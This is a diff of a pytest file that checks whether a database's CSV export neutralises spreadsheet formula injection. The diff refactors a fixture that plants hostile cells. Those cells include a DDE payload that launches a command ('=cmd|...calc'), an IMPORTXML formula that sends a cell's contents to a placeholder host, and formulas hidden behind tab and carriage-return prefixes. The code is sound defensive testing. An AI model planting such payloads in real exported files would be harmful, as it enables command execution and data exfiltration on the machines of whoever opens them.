@@ -44,8 +44,9 @@ NAMES = {
 }
 #: More cells that must be neutralised: a tab or a carriage return in front.
 OTHER = {"implementer_name": "\t=1+1", "contact_title": "\r=2+2"}
-#: A row of the official list, not one of the four described projects.
-LIST_CODE = "S10400"
+#: A row of the official list, not one of the four described projects (in the small lists of
+#: tests/fixtures/reference too).
+LIST_CODE = "S10324"
 LIST_NAME = "=cmd|'/c calc'!A1"
 ORGANISATION = ("0171450-7", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")")
 
@@ -72,12 +73,11 @@ def assert_safe(rows: list[list[str]]) -> None:
             assert not cell.startswith(FORMULA_TRIGGERS) or PLAIN_NUMBER.fullmatch(cell), (cell, row[:3])
 
 
-@pytest.fixture(scope="module")
-def hostile_archive(built_archive, tmp_path_factory):
-    """A copy of the built archive whose texts hold formulas, and a number or two."""
-    folder = tmp_path_factory.mktemp("hostile")
+def hostile_copy(source, folder):
+    """A copy of the archive ``source`` (as ``folder/esr.db``) whose texts hold formulas, and a
+    number or two."""
     db = folder / "esr.db"
-    shutil.copy(built_archive, db)
+    shutil.copy(source, db)
     conn = sqlite3.connect(db)
     with conn:
         for code, name in NAMES.items():
@@ -87,10 +87,17 @@ def hostile_archive(built_archive, tmp_path_factory):
             conn.execute(f"update projects set {column} = ? where code = 'S10962'", (value,))
         # A real SQL integer that is negative, and a text that is a plain negative number.
         conn.execute("update projects set eu_state_granted = -2, project_type = '-2' where code = 'S10962'")
-        conn.execute("update project_list set name = ?, eu_state_granted = -2.5 where code = ?", (LIST_NAME, LIST_CODE))
+        changed = conn.execute("update project_list set name = ?, eu_state_granted = -2.5 where code = ?", (LIST_NAME, LIST_CODE)).rowcount
         conn.execute("update organisations set name = ? where business_id = ?", (ORGANISATION[1], ORGANISATION[0]))
     conn.close()
+    assert changed == 1, f"{LIST_CODE} is not a row of {source}'s lists"
     return db
+
+
+@pytest.fixture(scope="module")
+def hostile_archive(built_archive, tmp_path_factory):
+    """A hostile copy (``hostile_copy``) of the archive built with all 22,821 rows of the lists."""
+    return hostile_copy(built_archive, tmp_path_factory.mktemp("hostile"))
 
 
 @pytest.fixture(scope="module")
@@ -314,7 +321,10 @@ def test_an_error_of_a_csv_request_is_not_rewritten(hostile_datasette):
 # ---------------------------------------------------------------------------------- esr export
 
 
-def test_esr_export_csv_neutralises_and_jsonl_stays_exact(hostile_archive, tmp_path):
+def test_esr_export_csv_neutralises_and_jsonl_stays_exact(small_archive, tmp_path):
+    # The small lists: every table of the archive is exported, and the 22,821 rows of the whole
+    # lists would take seconds to say what 42 rows say.
+    hostile_archive = hostile_copy(small_archive, tmp_path)
     for output_format in ("csv", "jsonl"):
         result = esr_in_process("export", "--db", str(hostile_archive), "--format", output_format, "-o", str(tmp_path / output_format))
         assert result.returncode == 0, result.stderr
